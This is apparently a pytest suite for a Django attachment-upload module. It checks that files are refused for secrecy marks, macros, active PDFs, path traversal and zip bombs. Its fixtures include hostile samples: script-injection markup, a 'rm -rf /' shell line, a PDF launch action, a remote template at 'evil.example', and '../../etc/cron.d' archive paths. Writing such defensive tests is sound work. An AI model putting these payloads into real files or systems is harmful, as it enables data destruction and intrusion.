import io
import zipfile

import pytest
import xlwt
from a_document import (
    a_compound,
    a_docx,
    a_picture,
    a_zip,
    an_ofd,
    an_official,
    an_xlsx,
    box,
    exif,
    with_part,
)
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.utils import timezone
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from qingfeng.documents import attachments, packages, storage
from qingfeng.documents.attachments import discard_orphans, erase, keep, opened, response_for
from qingfeng.documents.body import Paragraph
from qingfeng.documents.models import Attachment, Slip
from qingfeng.documents.refusal import Damaged, NoRoom, Refused
from qingfeng.documents.rendering import pdf_of
from qingfeng.journal.models import JournalEntry

pytestmark = pytest.mark.django_db


def a_pdf(text="督办单"):
    return pdf_of(an_official(body=(Paragraph(text),), annexes=()))


def an_old_workbook(text="加油明细"):
    book = xlwt.Workbook()
    book.add_sheet("一").write(0, 0, text)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def a_word_file(text="督办", *, locked=False, streams=None):
    head = bytearray(b"\xec\xa5" + bytes(510))
    head[11] = locked
    return a_compound({"WordDocument": bytes(head) + text.encode("utf-16-le"), **(streams or {})})


def refused(data, name):
    with pytest.raises(Refused) as refusal:
        keep(data, name)
    return refusal.value


def left_behind(folder):
    return [file for file in folder.rglob("*") if file.is_file()] if folder.exists() else []


GOOD = {
    "督办单.pdf": (a_pdf, "pdf"),
    "报告.docx": (lambda: a_docx("办理情况报告"), "docx"),
    "报告.wps": (a_word_file, "doc"),
    "明细.xlsx": (lambda: an_xlsx(["日期", "金额"]), "xlsx"),
    "明细.xls": (an_old_workbook, "xls"),
    "明细.et": (an_old_workbook, "xls"),
    "函.doc": (a_word_file, "doc"),
    "发票.ofd": (lambda: an_ofd("电子发票", "612.00"), "ofd"),
    "照片.png": (a_picture, "png"),
    "照片.JPG": (lambda: a_picture("JPEG"), "jpg"),
    "照片.webp": (lambda: a_picture("WEBP"), "webp"),
    "扫描.tif": (lambda: a_picture("TIFF"), "tiff"),
    "说明.txt": (lambda: "说明".encode("gb18030"), "txt"),
    "明细.csv": ("日期,金额\n3月1日,612".encode, "csv"),
    "材料.zip": (lambda: a_zip({"甲/说明.txt": "说明", "照片.png": a_picture()}), "zip"),
    "谈话.mp3": (lambda: b"\xff\xfb\x90\x00" + bytes(400), "mp3"),
    "现场.mp4": (lambda: box(b"ftyp", b"isom", bytes(4)) + box(b"mdat", b"x"), "mp4"),
}


@pytest.mark.parametrize("name", GOOD)
def test_every_kind_on_the_list_is_taken_and_given_back(name):
    make, kind = GOOD[name]

    kept = keep(SimpleUploadedFile(name, make()), name)
    assert (kept.kind, kept.name) == (kind, name)
    with opened(kept) as held:
        assert len(held.read()) == kept.size


BAD = {
    "page.html": (b"<!DOCTYPE html><script>alert(1)</script>", "markup"),
    "照片.svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "markup"),
    "照片.png": (b'<?xml version="1.0"?><svg onload="alert(1)"/>', "markup"),
    "说明.txt": (b"\xef\xbb\xbf  <HTML><body onload=alert(1)>", "markup"),
    "督办单.pdf": (b"MZ\x90\x00" + bytes(100), "program"),
    "run.txt": (b"#!/bin/sh\nrm -rf /", "program"),
    "lib.docx": (b"\x7fELF" + bytes(100), "program"),
    "report.pdf": (b"PDF", "wrong_type"),
    "扫描.pdf": (a_picture(), "wrong_type"),
    "照片.jpg": (a_picture(), "wrong_type"),
    "材料.docx": (a_zip({"a.txt": "a"}), "wrong_type"),
    "照片.heic": (b"\0\0\0\x18ftypheic" + bytes(50), "wrong_type"),
    "材料.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(50), "wrong_type"),
    "空.txt": (b"", "empty"),
    "无扩展名": ("说明".encode(), "wrong_type"),
    "二进制.txt": (b"ab\x00\x01", "wrong_type"),
    "坏.docx": (b"PK\x03\x04" + bytes(60), "damaged"),
    "坏.pdf": (b"%PDF-1.7\n" + bytes(60), "damaged"),
    "坏.xls": (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "damaged"),
}


@pytest.mark.parametrize("name", BAD)
def test_what_is_not_on_the_list_or_not_what_its_name_says_is_refused(name, attachments_folder):
    data, code = BAD[name]

    assert refused(data, name).code == code
    assert left_behind(attachments_folder) == []
    assert not Attachment.objects.exists()


def test_a_refusal_says_what_is_wrong_and_what_to_do():
    assert str(refused(a_picture(), "扫描.pdf")) == (
        "“扫描.pdf” holds a PNG picture; its name says something else. "
        "Name it with .png or choose the right file."
    )


def test_a_deceiving_name_is_cleaned_before_it_is_judged():
    assert keep(a_picture(), "../../x/\u202egnp.照片.png").name == "gnp.照片.png"
    assert refused(b"MZ" + bytes(9), "照片\u202egnp.exe").code == "program"


def test_a_picture_is_kept_without_where_it_was_taken():
    """Rights 21: no original image metadata is stored."""
    kept = keep(a_picture("JPEG", exif=exif()), "照片.jpg")

    with opened(kept) as held:
        assert b"PHONEMAKER" not in held.read()


def test_the_same_content_is_stored_once_whatever_its_names(attachments_folder):
    first, second = keep(b"abc", "a.txt"), keep(b"abc", "b.txt")

    assert first.sha256 == second.sha256
    assert len(left_behind(attachments_folder)) == 1


SECRET = {
    "机密★1年 方案.txt": "正文".encode,
    "方案.txt": "机密★1年\n正文".encode,
    "名单.csv": lambda: "密级：秘密\n甲,乙".encode("gb18030"),
    "方案.docx": lambda: a_docx("份号 000001", "秘密★10年", "正文"),
    "名单.xlsx": lambda: an_xlsx(["绝密★"], ["甲"]),
    "方案.ofd": lambda: an_ofd("秘密", "★", "5年"),
    "方案.doc": lambda: a_word_file("机密★长期"),
    "名单.xls": lambda: an_old_workbook("秘密★三年"),
    "材料.zip": lambda: a_zip({"甲.txt": "机密★\n正文"}),
    "材料二.zip": lambda: a_zip({"【绝密】/甲.txt": "正文"}),
}


@pytest.mark.parametrize("name", SECRET)
def test_a_secrecy_mark_is_refused_with_the_lawful_route_and_noted_without_content(name, attachments_folder):
    """保守国家秘密法: such documents go by confidential carrier or another network."""
    refusal = refused(SECRET[name](), name)

    assert refusal.code == "secrecy_mark"
    assert "confidential" in refusal.then
    assert left_behind(attachments_folder) == []
    entry = JournalEntry.objects.get()
    assert entry.kind == "documents.attachment_refused"
    assert entry.said["facts"] == {"reason": "secrecy_mark"}
    assert not any(word in bytes(entry.body).decode() for word in ("机密", "秘密", "绝密", "方案", "名单"))


def test_a_mark_in_the_text_of_a_pdf_is_refused():
    import typst

    marked = typst.compile("秘密★5年\n\n正文".encode(), format="pdf")

    assert refused(marked, "方案.pdf").code == "secrecy_mark"


def test_a_star_in_a_run_of_its_own_hides_no_mark():
    paper = with_part(
        a_docx("甲"),
        "word/document.xml",
        "<w:document xmlns:w='x'><w:p><w:r><w:t>秘密</w:t></w:r><w:r><w:t>★</w:t></w:r></w:p></w:document>",
    )

    assert refused(paper, "方案.docx").code == "secrecy_mark"


@pytest.mark.parametrize("text", ["全体干部应当保守国家秘密，遵守保密纪律。", "本单位不产生机密级载体。"])
def test_words_about_secrecy_are_no_mark(text):
    for name, data in (
        ("保密承诺书.docx", a_docx(text)),
        ("保密.txt", text.encode()),
        ("保密.pdf", a_pdf(text)),
    ):
        assert keep(data, name).text_searched


def test_a_scan_says_that_it_has_no_text_to_search():
    assert not keep(a_picture(), "扫描.png").text_searched
    assert not keep(a_zip({"a.txt": "甲", "b.png": a_picture()}), "材料.zip").text_searched


def an_active_pdf():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/J#53"): TextStringObject("app.alert(1)")}
    )
    names = ArrayObject([TextStringObject("a"), writer._add_object(action)])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def a_launching_pdf():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = action
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def a_locked_pdf(password):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(a_pdf())))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")  # noqa: S106 - of a test file
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def a_remote_template():
    rels = (
        '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return with_part(a_docx("甲"), "word/_rels/settings.xml.rels", rels)


HOSTILE = {
    "宏.docx": (lambda: with_part(a_docx("甲"), "word/vbaProject.bin", b"x"), "macros"),
    "宏.xlsx": (lambda: with_part(an_xlsx(["甲"]), "xl/macrosheets/sheet1.xml", b"<x/>"), "macros"),
    "宏.doc": (lambda: a_word_file(streams={"Macros": b"x"}), "macros"),
    "宏.xls": (lambda: a_compound({"Workbook": b"x", "_VBA_PROJECT_CUR": b"x"}), "macros"),
    "远程.docx": (a_remote_template, "outside"),
    "脚本.pdf": (an_active_pdf, "active"),
    "启动.pdf": (a_launching_pdf, "active"),
    "锁.pdf": (lambda: a_locked_pdf("secret"), "locked"),
    "锁.doc": (lambda: a_word_file(locked=True), "locked"),
    "锁.xls": (lambda: a_compound({"Workbook": b"\x09\x08\x02\x00ab\x2f\x00\x02\x00ab"}), "locked"),
    "锁.xlsx": (lambda: a_compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "locked"),
    "实体.docx": (
        lambda: with_part(a_docx("甲"), "word/document.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
        "damaged",
    ),
    "出走.zip": (lambda: a_zip({"../../etc/cron.d/x.txt": "x"}), "bad_names"),
    "绝对.zip": (lambda: a_zip({"/etc/x.txt": "x"}), "bad_names"),
    "反斜.zip": (lambda: a_zip({"..\\x.txt": "x"}), "bad_names"),
    "程序.zip": (lambda: a_zip({"a.txt": b"MZ\x90\x00"}), "program"),
    "网页.zip": (lambda: a_zip({"a.html": "<html>"}), "markup"),
    "套娃.zip": (lambda: a_zip({"b.zip": a_zip({"a.txt": "x"})}), "archive_inside"),
    "空.zip": (lambda: a_zip({}) or b"", "wrong_type"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_run_hide_or_lead_out_is_refused(name, attachments_folder):
    make, code = HOSTILE[name]

    assert refused(make(), name).code == code
    assert left_behind(attachments_folder) == []


def test_a_pdf_that_anybody_may_open_is_taken_though_it_is_encrypted():
    assert keep(a_locked_pdf(""), "通知.pdf").text_searched


def test_a_zip_bomb_is_refused_by_what_it_claims():
    assert refused(a_zip({"bomb.txt": b"0" * (packages.LARGE + 1)}), "炸弹.zip").code == "too_large_inside"
    assert (
        refused(a_zip({f"{n}.txt": "" for n in range(packages.MOST_MEMBERS + 1)}), "多.zip").code
        == "too_large_inside"
    )


def test_a_bomb_that_lies_about_its_size_is_stopped_while_it_unpacks(monkeypatch):
    monkeypatch.setattr(packages, "LARGEST_PART", 1000)
    sheet = b"<x>" + b"0" * 5000 + b"</x>"

    assert (
        refused(with_part(a_docx("甲"), "word/document.xml", sheet), "炸弹.docx").code == "too_large_inside"
    )


def test_a_locked_archive_is_refused():
    data = bytearray(a_zip({"a.txt": "x"}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1

    assert refused(bytes(data), "锁.zip").code == "locked"


def test_an_archive_is_packed_anew_without_what_its_pictures_told():
    data = a_zip({"甲/照片.jpg": a_picture("JPEG", exif=exif()), "说明.txt": "说明"})

    kept = keep(data, "材料.zip")
    with opened(kept) as held, zipfile.ZipFile(io.BytesIO(held.read())) as archive:
        assert sorted(archive.namelist()) == ["甲/照片.jpg", "说明.txt"]
        assert b"PHONEMAKER" not in archive.read("甲/照片.jpg")


def test_a_file_larger_than_its_kind_may_be_is_refused(settings):
    settings.QINGFENG_ATTACHMENT_LIMITS = {"txt": 0}

    assert refused(b"abc", "a.txt").code == "too_large"


def test_a_file_larger_than_any_kind_is_stopped_while_it_comes_in(settings, attachments_folder):
    settings.QINGFENG_ATTACHMENT_LIMITS = dict.fromkeys(attachments.KINDS, 1)

    assert refused(io.BytesIO(bytes(3 << 20)), "a.txt").code == "too_large"
    assert left_behind(attachments_folder) == []


def test_a_full_disk_keeps_no_row(monkeypatch):
    import errno

    def full(*_args):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(storage.os, "fsync", full)  # the system's, not ours
    with pytest.raises(NoRoom, match="The disk is full"):
        keep(b"abc", "a.txt")

    assert not Attachment.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_file_is_not_taken_inside_a_transaction():
    with pytest.raises(RuntimeError, match="durable"), transaction.atomic():
        keep(b"abc", "a.txt")


def test_keeping_is_an_entry_in_the_journal_without_the_name():
    kept = keep(b"abc", "举报材料.txt")

    entry = JournalEntry.objects.get()
    assert entry.said["facts"] == {"sha256": kept.sha256, "size": 3, "kind": "txt"}
    assert "举报" not in bytes(entry.body).decode()


def test_a_changed_file_is_not_given_and_the_journal_says_so():
    kept = keep(b"abc", "a.txt")
    storage.place_of(kept.sha256).write_bytes(b"abd")

    with pytest.raises(Damaged):
        response_for(kept)
    assert JournalEntry.objects.order_by("id").last().kind == "documents.attachment_damaged"


def test_a_download_is_named_and_neither_sniffed_cached_nor_run():
    response = response_for(keep(a_picture(), "照 片.png"))

    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E7%85%A7%20%E7%89%87.png"
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Security-Policy"].endswith("; sandbox")
    assert b"".join(response.streaming_content).startswith(b"\x89PNG")


@pytest.mark.parametrize(
    ("name", "shown"), [("a.txt", True), ("a.png", True), ("a.csv", False), ("a.docx", False)]
)
def test_only_what_can_do_nothing_is_shown_in_the_browser(name, shown):
    data = {"a.txt": b"abc", "a.png": a_picture(), "a.csv": b"a,b", "a.docx": a_docx("a")}[name]

    assert response_for(keep(data, name), inline=True)["Content-Disposition"].startswith("inline") == shown


def test_what_nothing_points_to_is_swept_away_after_a_day(attachments_folder):
    kept = keep(b"abc", "a.txt")
    storage.keep_bytes(b"without a row")

    assert discard_orphans() == 0
    assert discard_orphans(older_than_hours=0) == 3
    assert left_behind(attachments_folder) == []
    assert not Attachment.objects.filter(pk=kept.pk).exists()


def test_a_record_copy_is_not_swept_away(a_slip):
    kept = keep(a_pdf(), "扫描.pdf")
    Slip.objects.filter(pk=a_slip.pk).update(record_copy=kept, record_copy_at=timezone.now())

    assert discard_orphans(older_than_hours=0) == 0
    with opened(kept) as held:
        assert held.read(5) == b"%PDF-"


@pytest.mark.django_db(transaction=True)
def test_an_erased_file_is_gone_unless_another_row_holds_it(attachments_folder):
    first, second = keep(b"abc", "a.txt"), keep(b"abc", "b.txt")

    erase(first, by=None, reason="留存期满")
    assert len(left_behind(attachments_folder)) == 1
    erase(second, by=None, reason="留存期满")
    assert left_behind(attachments_folder) == []


def test_the_houses_own_policy_does_not_replace_the_sandbox(rf):
    from csp.middleware import CSPMiddleware

    response = response_for(keep(a_picture(), "a.png"), inline=True)
    assert CSPMiddleware(lambda _request: response)(rf.get("/"))["Content-Security-Policy"].endswith(
        "sandbox"
    )
